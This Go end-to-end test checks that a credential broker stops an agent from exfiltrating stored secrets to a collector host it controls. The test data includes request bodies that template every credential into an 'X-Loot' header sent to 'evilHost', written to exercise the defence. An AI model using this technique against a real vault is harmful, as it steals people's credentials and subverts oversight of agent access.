package e2e

// Credential host binding through the real binary: the exfiltration an
// agent with the vault member role (or a member vault session) would try,
// against a collector it controls on 127.0.0.1 with its own CA, which
// records every header it receives.

import (
	"crypto/tls"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

func TestCredentialBindingStopsExfiltration(t *testing.T) {
	t.Parallel()
	const apiKey, otherKey, botKey = "sk_bind_API_9d1e4c", "sk_bind_OTHER_77a0b2", "sk_bind_BOT_41f3aa"
	legitCA, evilCA := pxNewCA(t), pxNewCA(t)
	legit := pxStartUpstream(t, legitCA, pxAuthHandler("Bearer "+apiKey))
	collector := pxStartUpstream(t, evilCA, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("collected"))
	}))
	// The broker trusts both upstream CAs, so that only the binding stands
	// between the collector and the values.
	bundle := filepath.Join(t.TempDir(), "upstream-cas.pem")
	var pems []byte
	for _, f := range []string{legitCA.file, evilCA.file} {
		p, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		pems = append(pems, p...)
	}
	if err := os.WriteFile(bundle, pems, 0o644); err != nil {
		t.Fatal(err)
	}
	b := pxStart(t, pxOpts{ca: &pxCA{file: bundle}})
	b.creds("", map[string]string{"API_KEY": apiKey, "OTHER_KEY": otherKey})
	b.services("", `services:
  - name: api
    host: localhost:`+strconv.Itoa(legit.port)+`
    auth: {type: bearer, token: API_KEY}
`)
	b.mu.Lock()
	b.secrets = append(b.secrets, botKey)
	b.mu.Unlock()
	botTok := b.agent("bot", "default:member")
	sesTok := strings.TrimSpace(b.owner.ok("", "vault", "token", "--role", "member"))
	b.mu.Lock()
	b.tokens = append(b.tokens, sesTok)
	b.mu.Unlock()
	evilHost := "127.0.0.1:" + strconv.Itoa(collector.port)
	api := b.srv.url + "/v1/vaults/default/services"
	exfil := map[string]any{"services": []map[string]any{{"name": "exfil", "host": evilHost,
		"auth": map[string]any{"type": "custom", "headers": map[string]string{"X-Loot": "{{ API_KEY }}|{{ OTHER_KEY }}"}}}}}
	moved := map[string]any{"services": []map[string]any{{"name": "api", "host": evilHost, "auth": map[string]any{"type": "bearer", "token": "API_KEY"}}}}

	for who, tok := range map[string]string{"agent token": botTok, "member vault session": sesTok} {
		for _, try := range []struct {
			name, method string
			body         any
		}{{"POST a custom template naming every credential", "POST", exfil}, {"POST the service moved to its host", "POST", moved}, {"PUT the set moved", "PUT", moved}} {
			r := call(t, try.method, api, tok, try.body)
			var e errBody
			_ = json.Unmarshal(r.body, &e)
			if r.status != http.StatusForbidden || e.Code != "credential_not_bound" || !strings.Contains(e.Error, "proposal") {
				t.Errorf("%s: %s: %s, want 403 credential_not_bound naming a proposal", who, try.name, r)
			}
			var hint struct {
				ProposalHint *struct{ Host, Endpoint string } `json:"proposal_hint"`
			}
			if err := json.Unmarshal(r.body, &hint); err != nil || hint.ProposalHint == nil || hint.ProposalHint.Host != evilHost {
				t.Errorf("%s: %s: no proposal hint for %s in %s", who, try.name, evilHost, r.body)
			}
		}
		// Whatever the agent then sends through the proxy to its collector
		// carries no value: no service matches, nothing is injected. (The
		// agent trusts the collector's CA too: with no service the proxy
		// tunnels blind; had a write got through, it would intercept.)
		resp, err := trustingClient(b, tok, evilCA).Get("https://" + evilHost + "/collect")
		if err != nil {
			t.Fatalf("%s: through the proxy to the collector: %v", who, err)
		}
		if body := b.read(resp); resp.StatusCode != 200 || body != "collected" {
			t.Fatalf("%s: the collector is not reachable through the proxy (%d %q), so the test proves nothing", who, resp.StatusCode, body)
		}
		checkCollector(t, collector, apiKey, otherKey)
	}
	// The legitimate service still works.
	resp, err := b.client(botTok, "default", false).Get("https://localhost:" + strconv.Itoa(legit.port) + "/v1")
	if err != nil {
		t.Fatal(err)
	}
	if body := b.read(resp); resp.StatusCode != 200 || !strings.HasPrefix(body, "authorized") {
		t.Errorf("the bound service: %d %q", resp.StatusCode, body)
	}

	// Control: a value the agent wrote itself it may send to its own host,
	// and that request does reach the collector with the value in it.
	if r := call(t, "POST", b.srv.url+"/v1/credentials", botTok, map[string]any{"vault": "default", "credentials": map[string]string{"BOT_KEY": botKey}}); r.status != 200 {
		t.Fatalf("agent sets its own credential: %s", r)
	}
	own := map[string]any{"services": []map[string]any{{"name": "own", "host": evilHost, "auth": map[string]any{"type": "custom", "headers": map[string]string{"X-Loot": "{{ BOT_KEY }}"}}}}}
	if r := call(t, "POST", api, botTok, own); r.status != 200 {
		t.Fatalf("agent binds its own value: %s", r)
	}
	resp, err = b.client(botTok, "default", false).Get("https://" + evilHost + "/own")
	if err != nil {
		t.Fatal(err)
	}
	b.read(resp)
	if got := collector.last(t).Header.Get("X-Loot"); got != botKey {
		t.Fatalf("the agent's own value did not reach its collector (%q): the path the attack needs is not exercised", got)
	}
	checkCollector(t, collector, apiKey, otherKey)

	// The CLI shows and changes bindings.
	var list struct {
		Credentials []struct {
			Key             string   `json:"key"`
			AllowedHosts    []string `json:"allowed_hosts"`
			AgentBoundHosts []string `json:"agent_bound_hosts"`
			WrittenByAgent  bool     `json:"written_by_agent"`
		} `json:"credentials"`
	}
	b.owner.json(&list, "vault", "credential", "list")
	got := map[string][]string{}
	for _, c := range list.Credentials {
		got[c.Key] = c.AllowedHosts
		if c.Key == "BOT_KEY" && (!c.WrittenByAgent || !slices.Equal(c.AgentBoundHosts, []string{evilHost})) {
			t.Errorf("BOT_KEY listed as %+v", c)
		}
	}
	legitHost := "localhost:" + strconv.Itoa(legit.port)
	if !slices.Equal(got["API_KEY"], []string{legitHost}) || len(got["OTHER_KEY"]) != 0 || !slices.Equal(got["BOT_KEY"], []string{evilHost}) {
		t.Errorf("credential list --json bindings: %v", got)
	}
	table := b.owner.ok("", "vault", "credential", "list")
	mustContain(t, "credential list", table, "ALLOWED HOSTS", legitHost, evilHost+" (agent)")
	out := b.owner.ok("", "vault", "credential", "bind", "OTHER_KEY", "--host", "*.example.com", "--host", "api.other.test")
	mustContain(t, "credential bind", out, "*.example.com", "api.other.test")
	out = b.owner.ok("", "vault", "credential", "unbind", "OTHER_KEY", "--host", "api.other.test")
	if !strings.Contains(out, "*.example.com") || strings.Contains(out, "api.other.test") {
		t.Errorf("credential unbind printed %q", out)
	}
	msg := b.owner.fail("", "vault", "credential", "unbind", "API_KEY", "--host", legitHost)
	mustContain(t, "unbind under a service", msg, "api")
	// An agent cannot bind directly.
	if rr := call(t, "POST", b.srv.url+"/v1/credentials/bind", botTok, map[string]any{"vault": "default", "key": "API_KEY", "hosts": []string{evilHost}}); rr.status != http.StatusForbidden {
		t.Errorf("agent binds through the API: %s", rr)
	}
}

// trustingClient is b.client for tok that also trusts ca, for requests
// the proxy tunnels blind to an upstream with that CA.
func trustingClient(b *pxBroker, tok string, ca *pxCA) *http.Client {
	c := b.client(tok, "default", false)
	tr := c.Transport.(*http.Transport)
	pool := b.caPool.Clone()
	pool.AddCert(ca.cert)
	tr.TLSClientConfig = &tls.Config{RootCAs: pool}
	return c
}

// checkCollector fails when any request the collector received carries
// one of the values anywhere in its headers.
func checkCollector(t *testing.T, collector *pxUpstream, values ...string) {
	t.Helper()
	for _, s := range collector.requests() {
		for name, vals := range s.Header {
			for _, v := range vals {
				for _, secret := range values {
					if strings.Contains(v, secret) {
						t.Fatalf("the collector received a human's credential in %s", name)
					}
				}
			}
		}
	}
}
